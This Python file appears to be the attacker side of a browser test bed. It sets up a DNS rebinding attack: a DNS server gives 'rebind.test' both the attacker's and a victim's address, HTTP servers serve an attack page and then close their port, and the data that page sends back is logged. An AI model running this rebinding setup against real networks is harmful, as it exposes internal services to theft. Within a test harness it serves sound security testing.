"""The other side of tests/beds/browser: `attacker.py OWN-ADDRESS VICTIM REPORTS PORT...`.

It has the DNS server of the network, and a web server at each port. `rebind.test` has
two addresses, its own and the victim's. After the page was fetched by that name, the
port is closed, and browsers go on with the other address: at once, where a change of
the record would have to wait a minute for their caches. What pages report, at the
first port, are lines of the file REPORTS.
"""
import http.server
import pathlib
import socketserver
import sys
import threading

own, victim, reports = sys.argv[1:4]
page = pathlib.Path(__file__).with_name("attack.html").read_bytes()


class Pages(http.server.BaseHTTPRequestHandler):
    """HTTP/1.0: each request needs a connection."""

    def do_GET(self):
        attack = self.path.startswith("/attack")
        self.reply(page if attack else b"the attacker")
        if attack and self.headers["Host"].startswith("rebind.test"):
            self.server.shutdown()
            self.server.server_close()

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"])).decode()
        with open(reports, "a") as file:
            file.write(body + "\n")
        self.reply(b"")

    def reply(self, body):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class Names(socketserver.BaseRequestHandler):
    def handle(self):
        query, socket = self.request
        end = 12
        while query[end]:
            end += query[end] + 1
        question = query[12:end + 5]
        addresses = [own, victim] if question.startswith(b"\6rebind\4test\0") else [own]
        records = [] if question[-4:-2] != b"\0\1" else [self.record(address) for address in addresses]
        head = query[:2] + b"\x84\0\0\1\0" + bytes([len(records)]) + b"\0\0\0\0"
        socket.sendto(head + question + b"".join(records), self.client_address)

    @staticmethod
    def record(address):
        return b"\xc0\x0c\0\1\0\1\0\0\0\0\0\4" + bytes(map(int, address.split(".")))


servers = [http.server.ThreadingHTTPServer((own, int(port)), Pages) for port in sys.argv[4:]]
for server in [*servers, socketserver.UDPServer((own, 53), Names)]:
    threading.Thread(target=server.serve_forever).start()
print("ready", flush=True)
